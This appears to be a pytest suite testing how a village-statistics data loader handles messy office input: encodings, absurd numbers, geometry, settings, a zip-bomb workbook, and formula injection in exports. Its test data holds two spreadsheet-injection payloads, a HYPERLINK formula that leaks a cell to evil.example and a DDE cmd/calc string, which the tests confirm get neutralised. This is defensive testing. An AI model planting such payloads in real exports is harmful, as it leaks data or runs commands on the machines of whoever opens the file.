"""Input that real offices send: each case loads correctly or fails naming file, row, column and value.

One test per case of the robustness issue (data rows taken for headers, mixed encodings, absurd
numbers, ignored files, uncached formulas, untyped settings, geometry, awkward CSVs, huge sparse
workbooks, formula injection in exports).
"""
from __future__ import annotations

import json
import subprocess
import sys
import textwrap
import zipfile

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
import shapely

import villagestudy as vs
from villagestudy.settings import parse_setting_text


def _problems(folder, **overrides) -> list[vs.Problem]:
    with pytest.raises(vs.StudyError) as err:
        vs.load_study(folder, **overrides)
    return err.value.problems


def _one(problems, **match) -> vs.Problem:
    hits = [p for p in problems if all(getattr(p, k) == v for k, v in match.items())]
    assert hits, f"no problem matching {match} in:\n" + "\n".join(map(str, problems))
    return hits[0]


def _cli(*args):
    return subprocess.run([sys.executable, "-m", "villagestudy.cli", *map(str, args)], capture_output=True, text=True)


def _villages(folder) -> pd.DataFrame:
    return pd.read_csv(folder / "villages.csv", dtype=str)


# 1. a data row is never taken for a header row ------------------------------------------------
def test_first_data_row_that_looks_like_a_header_is_data(tiny_study_dir):
    """Non-numeric ids, no population columns, kind 'village' (an alias of village_name) first."""
    towns = pd.DataFrame({"town_id": ["T1"], "town_name": ["东镇"]})
    towns.to_csv(tiny_study_dir / "towns.csv", index=False)
    v = pd.DataFrame({"village_id": ["a", "b", "c"], "village_name": ["Alpha", "Beta", "Gamma"],
                      "town_id": ["T1"] * 3, "kind": ["village", "village", "community"]})
    v.to_csv(tiny_study_dir / "villages.csv", index=False)
    for name in ("boundaries.gpkg", "parcels.gpkg", "parks.csv", "grids.csv", "income.csv", "governance.csv"):
        (tiny_study_dir / name).unlink()
    study = vs.load_study(tiny_study_dir)
    assert study.villages["village_id"].tolist() == ["a", "b", "c"]
    assert study.villages["kind"].tolist() == ["village", "village", "community"]
    assert not [n for n in study.notes if "repeats" in n.message]
    loaded = study.quality.query("file == 'villages.csv' and action == 'loaded'")["count"].tolist()
    assert loaded == [3]


def test_data_row_with_a_typo_stays_a_data_row(tiny_study_dir):
    v = _villages(tiny_study_dir).assign(kind=["village", "village", "community"],
                                         resident_pop=["x", "2500", "2134"])
    v.to_csv(tiny_study_dir / "villages.csv", index=False)
    p = _one(_problems(tiny_study_dir), file="villages.csv", row=2, column="resident_pop")
    assert p.value == "x" and "not a number" in p.message


def test_a_row_above_the_header_that_looks_like_data_is_reported(tiny_study_dir):
    text = "044010000199,丁村,440100001\nvillage_id,village_name,town_id\n" + \
        "\n".join(",".join(r) for r in _villages(tiny_study_dir)[["village_id", "village_name", "town_id"]].values)
    (tiny_study_dir / "villages.csv").write_text(text, encoding="utf-8")
    study = vs.load_study(tiny_study_dir)
    p = _one(study.notes, file="villages.csv", row=1)
    assert "above the header" in p.message and "丁村" in str(p.value)
    assert study.quality.query("file == 'villages.csv' and row == 1")["action"].tolist() == ["dropped"]


# 2. one encoding per file ---------------------------------------------------------------------
def test_mixed_encodings_are_refused_naming_the_line(tiny_study_dir):
    names = ["西坑社区", "东岸", "南山村", "北湖", "上塘村", "下洋", "中和社区", "新田", "旧圩村", "石桥", "竹园"]
    lines = ["village_id,village_name,town_id".encode()]
    lines += [f"V{i:02d},{n},440100001".encode("utf-8") for i, n in enumerate(names)]
    lines.append("V99,乐坊社区,440100001".encode("gbk"))  # row 13 of the file
    (tiny_study_dir / "villages.csv").write_bytes(b"\n".join(lines) + b"\n")
    r = _cli("validate", tiny_study_dir)
    assert r.returncode == 2 and "Traceback" not in r.stderr
    assert "villages.csv, row 13" in r.stderr and "mixes two encodings" in r.stderr


def test_a_gbk_file_still_loads(tiny_study_dir):
    v = _villages(tiny_study_dir)
    (tiny_study_dir / "villages.csv").write_bytes(v.to_csv(index=False).encode("gb18030"))
    assert vs.load_study(tiny_study_dir).villages["village_name"].tolist() == ["甲村", "乙村", "丙社区"]


# 3. numbers finite and plausible --------------------------------------------------------------
@pytest.mark.parametrize("file,column,value", [
    ("villages.csv", "resident_pop", "inf"),
    ("villages.csv", "registered_pop", "Infinity"),
    ("villages.csv", "households", "-inf"),
    ("villages.csv", "resident_pop", "20000000"),
    ("income.csv", "amount", "1e308"),
    ("parks.csv", "land_area", "inf"),
    ("governance.csv", "social_workers", "1e308"),
])
def test_infinite_and_absurd_numbers_are_errors(tiny_study_dir, file, column, value):
    frame = pd.read_csv(tiny_study_dir / file, dtype=str)
    frame.loc[0, column] = value
    frame.to_csv(tiny_study_dir / file, index=False)
    canonical = {"amount": "amount_yuan", "land_area": "land_area_mu"}.get(column, column)
    p = _one(_problems(tiny_study_dir), file=file, row=2, column=canonical)
    assert p.message in ("not a finite number", "implausible value")
    assert p.value == float(value)


def test_absurd_numbers_exit_2_without_traceback(tiny_study_dir):
    frame = pd.read_csv(tiny_study_dir / "income.csv", dtype=str)
    frame.loc[[0, 1], "amount"] = "1e308"
    frame.to_csv(tiny_study_dir / "income.csv", index=False)
    r = _cli("validate", tiny_study_dir)
    assert r.returncode == 2 and "Traceback" not in r.stderr
    assert "income.csv, row 2, column 'amount_yuan': implausible value (found 1e+308)" in r.stderr


def test_parcel_larger_than_the_study_is_an_error(tiny_study_dir):
    gdf = gpd.read_file(tiny_study_dir / "parcels.gpkg", layer="parcels")
    gdf["area"] = 1.0
    gdf.loc[0, "area"] = 1e6  # 3 km2 of boundaries is 4,500 mu
    gdf.to_file(tiny_study_dir / "parcels.gpkg", layer="parcels")
    p = _one(_problems(tiny_study_dir), file="parcels.gpkg", row=1, column="area")
    assert "larger than all the villages" in p.message and p.value == 1e6


# 4. files: .xls read, names matched ignoring case, unknown data files named --------------------
def test_income_xls_is_read(tiny_study_dir):
    import xlwt

    income = pd.read_csv(tiny_study_dir / "income.csv", dtype={"village_id": str})
    (tiny_study_dir / "income.csv").unlink()
    wb = xlwt.Workbook()
    ws = wb.add_sheet("收入")
    for j, h in enumerate(["村编码", "年份", "收入类别", "金额"]):
        ws.write(0, j, h)
    for i, r in enumerate(income.itertuples(index=False), start=1):
        ws.write(i, 0, r.village_id)
        ws.write(i, 1, int(r.year))
        ws.write(i, 2, r.category)
        ws.write(i, 3, float(r.amount))
    wb.save(str(tiny_study_dir / "income.xls"))
    study = vs.load_study(tiny_study_dir)
    assert study.sources["income"] == "income.xls"
    assert len(study.income) == len(income)
    assert study.income["amount_yuan"].sum() == pytest.approx(income["amount"].sum())


def test_file_names_match_ignoring_case(tiny_study_dir):
    (tiny_study_dir / "income.csv").rename(tiny_study_dir / "Income.CSV")
    study = vs.load_study(tiny_study_dir)
    assert study.has("income") and study.sources["income"] == "Income.CSV"
    assert any(n.file == "Income.CSV" and "ignoring case" in n.message for n in study.notes)


def test_a_data_file_with_an_unknown_name_is_mentioned(tiny_study_dir):
    (tiny_study_dir / "income.csv").rename(tiny_study_dir / "收入.csv")
    study = vs.load_study(tiny_study_dir)
    assert any(n.file == "收入.csv" and "not read" in n.message for n in study.notes)


# 5. formulas without a cached value -----------------------------------------------------------
def test_formula_without_cached_value_is_an_error_naming_the_cell(tiny_study_dir):
    v = _villages(tiny_study_dir)
    (tiny_study_dir / "villages.csv").unlink()
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(list(v.columns))
    for r in v.itertuples(index=False):
        ws.append(list(r))
    ws["G3"] = "=E3/3"  # households of the second village, computed by a formula nobody calculated
    wb.save(tiny_study_dir / "villages.xlsx")
    r = _cli("validate", tiny_study_dir)
    assert r.returncode == 2 and "Traceback" not in r.stderr
    assert "villages.xlsx, column 'G3': cell G3 holds a formula without a calculated value" in r.stderr


# 6. settings typed and range-checked ----------------------------------------------------------
@pytest.mark.parametrize("line,key", [
    ('year = "last"', "year"),
    ('old_before_year = "2000年"', "old_before_year"),
    ("block_tolerance_m = inf", "block_tolerance_m"),
    ("block_tolerance_m = -5", "block_tolerance_m"),
    ('weights = "heavy"', "weights"),
    ("farmland_uses = 5", "farmland_uses"),
    ('farmland_uses = ["paddy"]', "farmland_uses"),
    ('area_source = "drawn"', "area_source"),
])
def test_bad_settings_are_errors(tiny_study_dir, line, key):
    toml = (tiny_study_dir / "study.toml").read_text(encoding="utf-8")
    toml = "\n".join(ln for ln in toml.splitlines() if not ln.startswith(key.split()[0] + " ")) + "\n" + line + "\n"
    (tiny_study_dir / "study.toml").write_text(toml, encoding="utf-8")
    r = _cli("validate", tiny_study_dir)
    assert r.returncode == 2 and "Traceback" not in r.stderr
    assert f"study.toml, column '{key}': bad setting" in r.stderr


def test_a_farmland_use_no_parcel_has_is_an_error(tiny_study_dir):
    with (tiny_study_dir / "study.toml").open("a", encoding="utf-8") as f:
        f.write('farmland_uses = ["arable", "garden"]\n')
    p = _one(_problems(tiny_study_dir), file="study.toml", column="farmland_uses")
    assert p.value == "garden" and "arable, forest" in p.expected


def test_unknown_settings_are_listed(tiny_study_dir):
    with (tiny_study_dir / "study.toml").open("a", encoding="utf-8") as f:
        f.write("weak_totl_yuan = 200000\nblock_tolerence_m = 2\n")
    study = vs.load_study(tiny_study_dir)
    note = next(n for n in study.notes if "unknown setting" in n.message)
    assert "block_tolerence_m, weak_totl_yuan" in note.message


def test_set_parses_lists_and_types():
    assert parse_setting_text("farmland_uses", "arable") == ["arable"]
    assert parse_setting_text("farmland_uses", "arable,garden") == ["arable", "garden"]
    assert parse_setting_text("weights", '{"land": 2}') == {"land": 2}
    assert parse_setting_text("office_area_standard_m2", "none") is None


def test_cli_set_farmland_uses_is_a_list(tiny_study_dir, tmp_path):
    out = tmp_path / "m.csv"
    r = _cli("metrics", tiny_study_dir, "--set", "farmland_uses=arable,forest", "--out", out)
    assert r.returncode == 0, r.stderr
    table = pd.read_csv(out, dtype={"village_id": str}).set_index("village_id")
    assert table.loc["044010000101", "parcel_count"] == 4  # 3 arable + 1 forest
    r = _cli("metrics", tiny_study_dir, "--set", "block_tolerance_m=-5", "--out", out)
    assert r.returncode == 2 and "Traceback" not in r.stderr and "block_tolerance_m" in r.stderr


# 7. geometry ----------------------------------------------------------------------------------
def _parcels(folder) -> gpd.GeoDataFrame:
    return gpd.read_file(folder / "parcels.gpkg", layer="parcels")


@pytest.mark.parametrize("geom", [shapely.Point(500_010, 2_500_010),
                                  shapely.LineString([(500_000, 2_500_000), (500_010, 2_500_010)]),
                                  shapely.GeometryCollection([shapely.box(500_000, 2_500_000, 500_010, 2_500_010)])])
def test_a_parcel_that_is_not_a_polygon_is_an_error(tiny_study_dir, geom):
    gdf = _parcels(tiny_study_dir)
    gdf = gdf.set_geometry(gdf.geometry.astype(object).where(gdf.index != 1, geom))
    gdf.to_file(tiny_study_dir / "parcels.gpkg", layer="parcels")
    p = _one(_problems(tiny_study_dir), file="parcels.gpkg", row=2, column="geometry")
    assert "not a polygon" in p.message and p.value == geom.geom_type


def test_layout_warnings_overlap_sliver_outside_mismatch(tiny_study_dir):
    gdf = _parcels(tiny_study_dir)
    x0, y0 = 500_000.0, 2_500_000.0
    side = (10000 / 15) ** 0.5
    gdf["area"] = gdf.geometry.area / (10000 / 15)
    # P01 shifted half a parcel onto P00: an overlap of side*side/2 m2
    gdf.loc[1, "geometry"] = shapely.box(x0 + side / 2, y0 + 10, x0 + 1.5 * side, y0 + 10 + side)
    # P02 a sliver of 2 m2
    gdf.loc[2, "geometry"] = shapely.box(x0 + 100, y0 + 100, x0 + 102, y0 + 101)
    gdf.loc[2, "area"] = 2 / (10000 / 15)
    # P10 (village 2) drawn inside village 1
    gdf.loc[4, "geometry"] = shapely.box(x0 + 200, y0 + 200, x0 + 200 + side, y0 + 200 + side)
    # P11 registered as 3 mu but drawn as 1 mu
    gdf.loc[5, "area"] = 3.0
    gdf.to_file(tiny_study_dir / "parcels.gpkg", layer="parcels")
    study = vs.load_study(tiny_study_dir)
    text = {n.message.split(" ")[1]: n.message for n in study.notes if n.file == "parcels.gpkg"}
    overlap = next(m for m in text.values() if "overlap" in m)
    assert overlap.startswith("1 pair(s)") and "P00/P01" in overlap and f"({side * side / 2:,.0f} m2)" in overlap
    assert any(m.startswith("1 sliver") and "P02 (2.00 m2)" in m for m in text.values())
    assert any("outside their village" in m and "P10 (100% outside)" in m for m in text.values())
    mismatch = next(m for m in text.values() if "registered area" in m)
    assert mismatch.startswith("1 of 12") and "P11 (3.00 mu registered, 1.00 mu drawn)" in mismatch
    # register: land indicators use the registered 3 mu; geometry: the drawn 1 mu
    assert study.parcels.set_index("parcel_id").at["P11", "area_mu"] == pytest.approx(3.0)
    drawn = vs.load_study(tiny_study_dir, area_source="geometry")
    assert drawn.parcels.set_index("parcel_id").at["P11", "area_mu"] == pytest.approx(1.0)
    q = study.quality_for_town("440100001")
    assert set(q.loc[q["column"] == "geometry", "message"]) >= {"parcels overlapping another parcel",
                                                               "sliver parcels"}


# 8. awkward CSVs ------------------------------------------------------------------------------
def test_csv_with_cr_only_line_ends(tiny_study_dir):
    v = _villages(tiny_study_dir)
    (tiny_study_dir / "villages.csv").write_bytes(v.to_csv(index=False, lineterminator="\r").encode("utf-8"))
    study = vs.load_study(tiny_study_dir)
    assert study.villages["village_name"].tolist() == ["甲村", "乙村", "丙社区"]
    assert study.villages["resident_pop"].tolist() == [900, 2500, 2134]


def test_csv_with_a_field_over_131072_characters(tiny_study_dir):
    v = _villages(tiny_study_dir)
    v["备注"] = ["短", "长" * 200_000, ""]
    v.to_csv(tiny_study_dir / "villages.csv", index=False)
    study = vs.load_study(tiny_study_dir)
    assert len(study.villages) == 3


# 9. sparse and inflated workbooks cost nothing --------------------------------------------------
_MEASURE = textwrap.dedent("""
    import json, sys, time
    import villagestudy as vs
    t = time.perf_counter()
    try:
        study = vs.load_study(sys.argv[1])
        out = {"towns": study.towns["town_id"].tolist()}
    except vs.StudyError as e:
        out = {"errors": [str(p) for p in e.problems]}
    out["seconds"] = time.perf_counter() - t
    # VmHWM: this process's own peak. ru_maxrss would also count the parent's memory at the fork
    # (Linux keeps it across exec), which is the whole test session's when run with the other tests
    hwm = next(line for line in open("/proc/self/status") if line.startswith("VmHWM:"))
    out["peak_mb"] = int(hwm.split()[1]) / 1024
    print(json.dumps(out))
""")


def _measure(folder) -> dict:
    r = subprocess.run([sys.executable, "-c", _MEASURE, str(folder)], capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    return json.loads(r.stdout.strip().splitlines()[-1])


def _towns_xlsx(folder, far: str) -> None:
    (folder / "towns.csv").unlink()
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["town_id", "town_name"])
    ws.append(["440100001", "东镇"])
    ws.append(["440100002", "西街道"])
    if far == "cell":
        ws["XFD1048576"] = "x"
    wb.save(folder / "towns.xlsx")
    if far == "merged":  # written into the XML: openpyxl itself would build every cell of the range
        _patch_sheet(folder / "towns.xlsx", lambda xml: xml.replace(
            b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="D1:XFD1048576"/></mergeCells>'))


def _patch_sheet(path, fn) -> None:
    with zipfile.ZipFile(path) as z:
        members = {i.filename: z.read(i.filename) for i in z.infolist()}
    members["xl/worksheets/sheet1.xml"] = fn(members["xl/worksheets/sheet1.xml"])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)


@pytest.mark.parametrize("far", ["cell", "merged"])
def test_far_cell_or_merged_range_costs_nothing(tiny_study_dir, far):
    _towns_xlsx(tiny_study_dir, far)
    assert (tiny_study_dir / "towns.xlsx").stat().st_size < 10_000
    got = _measure(tiny_study_dir)
    assert got.get("towns") == ["440100001", "440100002"], got
    assert got["peak_mb"] < 500 and got["seconds"] < 10


def test_workbook_that_inflates_is_refused(tiny_study_dir):
    v = _villages(tiny_study_dir)
    (tiny_study_dir / "villages.csv").unlink()
    path = tiny_study_dir / "villages.xlsx"
    v.to_excel(path, index=False)
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        with z.open("xl/media/padding.bin", "w", force_zip64=True) as f:
            block = b"\0" * (1 << 20)
            for _ in range(400):
                f.write(block)
    assert path.stat().st_size < 1_000_000
    got = _measure(tiny_study_dir)
    assert any("villages.xlsx" in e and "inflates to 400 MB" in e for e in got.get("errors", [])), got
    assert got["peak_mb"] < 500 and got["seconds"] < 10


# 11. formula injection in exports ---------------------------------------------------------------
_EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"click me")', "+cmd|' /C calc'!A0"]


def test_exports_write_formulas_as_text(tiny_study_dir, tmp_path):
    v = _villages(tiny_study_dir)
    v.loc[0, "village_name"], v.loc[1, "village_name"] = _EVIL
    v.to_csv(tiny_study_dir / "villages.csv", index=False)
    csv_out, xlsx_out = tmp_path / "m.csv", tmp_path / "m.xlsx"
    assert _cli("metrics", tiny_study_dir, "--out", csv_out).returncode == 0
    text = csv_out.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "'+cmd" in text
    assert ",=HYPERLINK" not in text and ",+cmd" not in text
    r = _cli("metrics", tiny_study_dir)  # CSV on stdout too
    assert "'=HYPERLINK" in r.stdout and ",=HYPERLINK" not in r.stdout
    from villagestudy._atomic import write_table

    write_table(vs.compute_indicators(vs.load_study(tiny_study_dir)), xlsx_out)
    ws = openpyxl.load_workbook(xlsx_out).active  # formulas would come back with data_type 'f'
    cells = {c.value: c.data_type for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert cells[_EVIL[0]] == "s" and cells[_EVIL[1]] == "s"
    assert "f" not in {c.data_type for row in ws.iter_rows() for c in row}


# 10. optional columns really optional -------------------------------------------------------------
def test_reports_without_population_columns(tiny_study_dir, tmp_path):
    """registered_pop and resident_pop are optional in the contract: the batch makes every report."""
    from villagestudy.reports import run_reports

    v = _villages(tiny_study_dir).drop(columns=["registered_pop", "resident_pop"])
    v.to_csv(tiny_study_dir / "villages.csv", index=False)
    study = vs.load_study(tiny_study_dir)
    assert study.villages["resident_pop"].isna().all()
    result = run_reports(tiny_study_dir, out=tmp_path / "reports", jobs=1, progress=False)
    assert [r.status for r in result.results] == ["ok", "ok"], [r.error for r in result.results]
    assert (tmp_path / "reports" / "index.html").is_file()


def test_key_figures_never_overflow():
    """A study built in code skips validation: an infinite population gives no figure, not a crash."""
    from villagestudy.reports.index_page import key_figures

    v = pd.DataFrame({"village_id": ["v1", "v2"], "village_name": ["甲村", "乙村"], "town_id": ["t1", "t1"],
                      "resident_pop": [float("inf"), 100.0]})
    indicators = pd.DataFrame({"town_id": ["t1", "t1"], "weak_village": [True, None]}, index=["v1", "v2"])
    missed = pd.DataFrame({"village_id": ["v1"], "town_id": ["t1"], "missed": [True]})
    assert key_figures(indicators, missed, v)["t1"] == {"villages": 2, "residents": None, "weak": 1, "missing": 1}
    v["resident_pop"] = [1200.0, 100.0]
    assert key_figures(indicators, missed, v)["t1"]["residents"] == 1300


def test_settings_replace_takes_one_land_use_as_a_list():
    assert vs.Settings().replace(farmland_uses="garden").farmland_uses == ("garden",)


# invariants -------------------------------------------------------------------------------------
from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

_WORDS = st.sampled_from(["village", "community", "村名", "村编码", "type", "town", "甲村", "社区", "=1+1", "合计村",
                          "village_name", "年份", "金额", "x"])


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.tuples(_WORDS, _WORDS, st.sampled_from(["village", "community", "村", "社区"])),
                     min_size=1, max_size=6))
def test_no_data_row_is_ever_taken_for_a_header(tmp_path, rows):
    """Whatever words the data holds, every data row of a villages table is read as data."""
    from villagestudy.errors import ProblemList
    from villagestudy.io.readers import read_text_table
    from villagestudy.schema import TABLES

    path = tmp_path / "villages.csv"
    frame = pd.DataFrame([(f"id{i}-{a}", b, "T1", k) for i, (a, b, k) in enumerate(rows)],
                         columns=["village_id", "village_name", "town_id", "kind"])
    frame.to_csv(path, index=False)
    problems = ProblemList()
    raw = read_text_table(path, set(TABLES["villages"].names), problems, table=TABLES["villages"])
    assert raw.frame["village_id"].tolist() == frame["village_id"].tolist()
    assert raw.frame["_row"].tolist() == list(range(2, len(rows) + 2))


@given(text=st.text(min_size=1, max_size=12))
def test_csv_export_never_starts_a_cell_with_a_formula(text):
    from villagestudy.safe_text import FORMULA_PREFIXES, neutralise_frame

    out = neutralise_frame(pd.DataFrame({"name": [text]}))["name"].iloc[0]
    assert out == ("'" + text if text.startswith(FORMULA_PREFIXES) else text)
    assert not out.startswith(FORMULA_PREFIXES)
